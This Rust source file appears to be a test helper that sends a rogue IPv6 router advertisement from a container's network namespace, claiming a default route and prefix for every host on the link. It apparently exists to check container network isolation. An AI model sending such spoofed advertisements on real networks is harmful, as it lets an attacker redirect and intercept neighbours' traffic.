//! A router advertisement as a hostile container sends it (RFC 4861 section 4.2): "all of IPv6 goes through me".

use std::net::{Ipv6Addr, SocketAddrV6};
use std::os::fd::AsRawFd;

use anyhow::{Context, Result};
use nix::net::if_::if_nametoindex;
use nix::sys::socket::{
    AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn6, sendto, setsockopt, socket,
    sockopt,
};

use crate::netns::Netns;

/// Sends one advertisement of a default route and of the prefix 2001:db8:bad::/64 from `eth0` to everybody on the link.
///
/// # Errors
/// When the namespace has no `eth0`, or the kernel refuses.
pub fn advertise(from: &Netns) -> Result<()> {
    // Without an address on the link nothing can be sent; whoever is root in a container can give it one.
    from.run(|| Ok(std::fs::write("/proc/thread-self/root/proc/sys/net/ipv6/conf/eth0/disable_ipv6", "0")?))
        .ok();
    from.ip("-6 addr replace fe80::bad/64 dev eth0 nodad")?;
    from.run(|| {
        let index = if_nametoindex("eth0").context("no eth0")?;
        let fd = socket(AddressFamily::Inet6, SockType::Raw, SockFlag::SOCK_CLOEXEC, SockProtocol::IcmpV6)?;
        setsockopt(&fd, sockopt::Ipv6MulticastHops, &255)?;
        let everybody = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1);
        let to = SockaddrIn6::from(SocketAddrV6::new(everybody, 0, 0, index));
        sendto(fd.as_raw_fd(), &message(), &to, MsgFlags::empty())
            .context("cannot send the advertisement")?;
        Ok(())
    })
}

/// Type 134, hop limit 64, lifetime 1800 s; then a prefix option (on-link, autonomous), both lifetimes an hour. The
/// kernel fills in the checksum.
fn message() -> Vec<u8> {
    let mut bytes = vec![134, 0, 0, 0, 64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0];
    bytes.extend([3, 4, 64, 0xc0, 0, 0, 0x0e, 0x10, 0, 0, 0x0e, 0x10, 0, 0, 0, 0]);
    bytes.extend(Ipv6Addr::new(0x2001, 0x0db8, 0x0bad, 0, 0, 0, 0, 0).octets());
    bytes
}
